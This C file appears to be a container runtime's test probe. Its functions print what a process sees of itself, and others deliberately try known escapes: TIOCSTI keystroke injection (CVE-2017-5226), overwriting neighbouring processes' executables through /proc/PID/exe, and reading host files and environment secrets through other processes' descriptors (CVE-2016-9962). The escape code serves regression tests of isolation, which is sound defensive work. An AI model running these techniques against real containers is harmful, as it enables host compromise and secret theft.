/* probe.c - what a container sees of itself where no command of busybox tells it, and what an
 * attacker in it would try. Runs inside, so it is static: probe WORD [ARGUMENTS]
 *
 * It prints facts, one for each line; the tests know what they should be.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

struct schedule {		/* struct sched_attr of the kernel, as sched_getattr(2) has it */
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

static void say(const char *what, long result)
{
	if (result < 0)
		printf("%s: %s\n", what, strerrorname_np(errno));
	else
		printf("%s: %ld\n", what, result);
}

/* Open descriptors but for the one that lists them. */
static int show_descriptors(char **words)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;

	(void)words;
	while (dir && (entry = readdir(dir)))
		if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(dir))
			printf("%s\n", entry->d_name);
	return !dir;
}

static int show_scheduler(char **words)
{
	struct schedule at = { .size = sizeof(at) };

	(void)words;
	if (syscall(SYS_sched_getattr, 0, &at, sizeof(at), 0))
		return 1;
	printf("policy %u nice %d priority %u flags %llu runtime %llu deadline %llu period %llu\n",
	       at.policy, at.nice, at.priority, (unsigned long long)at.flags,
	       (unsigned long long)at.runtime, (unsigned long long)at.deadline,
	       (unsigned long long)at.period);
	return 0;
}

static int show_io_priority(char **words)
{
	long value = syscall(SYS_ioprio_get, 1, 0);

	(void)words;
	printf("class %ld priority %ld\n", value >> 13, value & 0x1fff);
	return 0;
}

static int show_memory_policy(char **words)
{
	int mode = -1;
	unsigned long nodes[16] = { 0 };

	(void)words;
	if (syscall(SYS_get_mempolicy, &mode, nodes, 1024UL, NULL, 0UL))
		return 1;
	printf("mode %d flags %d nodes %lx\n", mode & 0xfff, mode & ~0xfff, nodes[0]);
	return 0;
}

/* The name of the session keyring; KEYCTL_GET_KEYRING_ID is 0, KEYCTL_DESCRIBE 6. */
static int show_keyring(char **words)
{
	char text[256] = "";
	long id = syscall(SYS_keyctl, 0, -3, 0);

	(void)words;
	if (id < 0 || syscall(SYS_keyctl, 6, id, text, sizeof(text) - 1) < 0)
		say("keyctl", -1);
	else
		puts(text);
	return 0;
}

static int show_session(char **words)
{
	(void)words;
	printf("pid %d parent %d session %d group %d foreground %d\n", getpid(), getppid(), getsid(0),
	       getpgrp(), tcgetpgrp(0));
	return 0;
}

static int show_terminal(char **words)
{
	struct winsize size = { 0 };
	struct termios termios;

	(void)words;
	printf("tty %d %d %d\n", isatty(0), isatty(1), isatty(2));
	if (!ioctl(0, TIOCGWINSZ, &size) && !tcgetattr(0, &termios))
		printf("rows %d columns %d onlcr %d\n", size.ws_row, size.ws_col,
		       (termios.c_oflag & ONLCR) != 0);
	return 0;
}

/* Pushes a letter into the terminal as if its owner had typed it (CVE-2017-5226). */
static int push_input(char **words)
{
	const char *at = words[0] ? words[0] : "x";

	for (; *at; at++)
		say("TIOCSTI", ioctl(0, TIOCSTI, at));
	return 0;
}

/* A system call by its number: probe call NUMBER ARGUMENTS. */
static int call(char **words)
{
	long at[7] = { 0 };

	for (int i = 0; i < 7 && words[i]; i++)
		at[i] = (long)strtoull(words[i], NULL, 0);
	say("call", syscall(at[0], at[1], at[2], at[3], at[4], at[5], at[6]));
	return 0;
}

/* Changes hands of signals: prints their names until TERM, which ends it with 7. */
static int wait_for_signals(char **words)
{
	sigset_t all;
	int got;

	(void)words;
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	puts("ready");
	fflush(stdout);
	while (!sigwait(&all, &got)) {
		printf("got %s\n", sigabbrev_np(got));
		fflush(stdout);
		if (got == SIGTERM)
			return 7;
	}
	return 1;
}

/* What a fresh process finds blocked and ignored. */
static int show_signals(char **words)
{
	char line[256];
	FILE *file = fopen("/proc/self/status", "r");

	(void)words;
	while (file && fgets(line, sizeof(line), file))
		if (!strncmp(line, "SigBlk", 6) || !strncmp(line, "SigIgn", 6))
			fputs(line, stdout);
	return !file;
}

static void try_to_write(const char *path)
{
	static int tried;
	char through[64];
	int fd = open(path, O_PATH | O_CLOEXEC);
	int writer = -1;

	if (fd < 0)
		return;
	snprintf(through, sizeof(through), "/proc/self/fd/%d", fd);
	/* While it is being executed this says ETXTBSY: keep the descriptor, and try on. */
	for (int i = 0; i < 2000 && writer < 0; i++) {
		writer = open(through, O_WRONLY | O_CLOEXEC);
		if (writer < 0 && errno != ETXTBSY)
			break;
	}
	if (writer >= 0) {
		struct stat st;

		fstat(writer, &st);
		if (write(writer, "#!/bin/sh\n", 10) == 10)
			printf("wrote to %llu\n", (unsigned long long)st.st_ino);
		close(writer);
	}
	close(fd);
	if (!tried++)
		puts("tried");
	fflush(stdout);
}

/* Tries to overwrite the program of each process that appears beside this one, for SECONDS. */
static int overwrite_programs(char **words)
{
	time_t end = time(NULL) + (words[0] ? atoi(words[0]) : 5);

	puts("ready");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;
		char path[300], own[32];

		snprintf(own, sizeof(own), "%d", getpid());
		while (dir && (entry = readdir(dir)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, own) && strcmp(entry->d_name, "1")) {
				snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
				try_to_write(path);
			}
		if (dir)
			closedir(dir);
	}
	return 0;
}

/* Looks for a way to the host through the descriptors of processes that appear beside this one
 * (CVE-2016-9962), for SECONDS: any that is a directory outside this root. */
static int steal_descriptors(char **words)
{
	time_t end = time(NULL) + (words[0] ? atoi(words[0]) : 5);
	bool seen = false;

	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		for (int pid = 2; pid < 400; pid++)
			for (int fd = 3; fd < 24; fd++) {
				char path[80];
				int there;

				snprintf(path, sizeof(path), "/proc/%d/fd/%d/%s", pid, fd,
					 words[1] ? words[1] : "etc/hostname");
				there = open(path, O_RDONLY | O_CLOEXEC);
				if (there < 0 && errno != EACCES && errno != EPERM)
					continue;
				if (there >= 0)
					printf("stole %s\n", path);
				else if (!seen)
					puts("denied");
				fflush(stdout);
				close(there);
				seen = true;
			}
	return 0;
}

static bool holds(const char *path, const char *word)
{
	char text[65536];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof(text));

	if (fd >= 0)
		close(fd);
	return got > 0 && memmem(text, (size_t)got, word, strlen(word));
}

static void say_if_open(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		printf("stole %s\n", path);
	close(fd);
}

/* Returns how many descriptors it was shown beyond 0, 1 and 2, which are all that a program here has; -1: it was
 * refused. */
static int look_into(const char *pid, const char *way, const char *word)
{
	char path[512];
	struct dirent *entry;
	int seen = 0;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/root/%s", pid, way);
	say_if_open(path);
	snprintf(path, sizeof(path), "/proc/%s/cwd/%s", pid, way);
	say_if_open(path);
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	if (holds(path, word))
		printf("stole %s\n", path);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	if (!dir)
		return errno == EACCES || errno == EPERM ? -1 : 0;
	while ((entry = readdir(dir)))
		if (atoi(entry->d_name) > 2) {
			seen++;
			snprintf(path, sizeof(path), "/proc/%s/fd/%s/%s", pid, entry->d_name, way);
			say_if_open(path);
		}
	closedir(dir);
	return seen;
}

/* Looks into each process that appears beside this one (CVE-2016-9962), for SECONDS: for a file of the host, by its
 * WAY from a folder of the host, and for a WORD of the host in its environment. */
static int spy(char **words)
{
	time_t end = time(NULL) + atoi(words[0]);
	bool denied = false, seen = false;

	puts("ready");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			int shown = 0;

			if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid())
				shown = look_into(entry->d_name, words[1], words[2]);
			if (shown < 0 && !denied)
				denied = puts("denied") >= 0;
			if (shown > 0 && !seen)
				seen = puts("seen") >= 0;
			fflush(stdout);
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

static int show_dumpable(char **words)
{
	(void)words;
	printf("dumpable %d\n", prctl(PR_GET_DUMPABLE));
	return 0;
}

/* Says to who listens at NOTIFY_SOCKET what the words are, each in a message of its own. */
static int notify(char **words)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	const char *path = getenv("NOTIFY_SOCKET");
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (!path || strlen(path) >= sizeof(address.sun_path))
		return 1;
	strcpy(address.sun_path, path);
	for (; *words; words++)
		say("notify", sendto(fd, *words, strlen(*words), 0, (void *)&address, sizeof(address)));
	return 0;
}

static const struct {
	const char *word;
	int (*does)(char **words);
} table[] = {
	{ "fds", show_descriptors },
	{ "scheduler", show_scheduler },
	{ "io-priority", show_io_priority },
	{ "memory-policy", show_memory_policy },
	{ "keyring", show_keyring },
	{ "session", show_session },
	{ "terminal", show_terminal },
	{ "signals", show_signals },
	{ "wait-for-signals", wait_for_signals },
	{ "dumpable", show_dumpable },
	{ "notify", notify },
	{ "push-input", push_input },
	{ "call", call },
	{ "overwrite-programs", overwrite_programs },
	{ "steal-descriptors", steal_descriptors },
	{ "spy", spy },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(table) / sizeof(*table); i++)
		if (!strcmp(argv[1], table[i].word))
			return table[i].does(argv + 2);
	fprintf(stderr, "probe: what?\n");
	return 2;
}
